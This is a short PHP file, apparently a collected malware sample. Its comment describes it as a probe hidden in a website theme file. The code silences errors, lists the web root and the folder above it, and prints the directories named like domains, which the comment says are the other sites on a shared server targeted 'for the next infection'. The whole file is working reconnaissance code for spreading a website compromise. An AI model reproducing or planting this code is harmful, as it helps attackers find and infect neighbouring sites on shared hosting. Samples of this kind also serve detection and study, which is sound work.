<?php
/**
 * Sample: a probe hidden in a theme file. It lists the folder above the web root and prints the
 * folders named like domains (the other sites on the shared server), for the next infection.
 */
error_reporting(0);
$root = str_replace('\\', '/', $_SERVER['DOCUMENT_ROOT']);
$endings = '(\.com|\.net|\.org|\.info|\.biz|\.de|\.uk|\.co\.uk|\.fr|\.it|\.nl|\.ru|\.ua|\.pl)';

function sample_sites($names, $base, $endings) {
    foreach ($names as $n) {
        if (preg_match('#' . $endings . '$#i', $n) && is_dir($base . '/' . $n)) {
            echo $base . '/' . $n . ';';
        }
    }
}

sample_sites(scandir($root), $root, $endings);
sample_sites(scandir(dirname($root)), dirname($root), $endings);
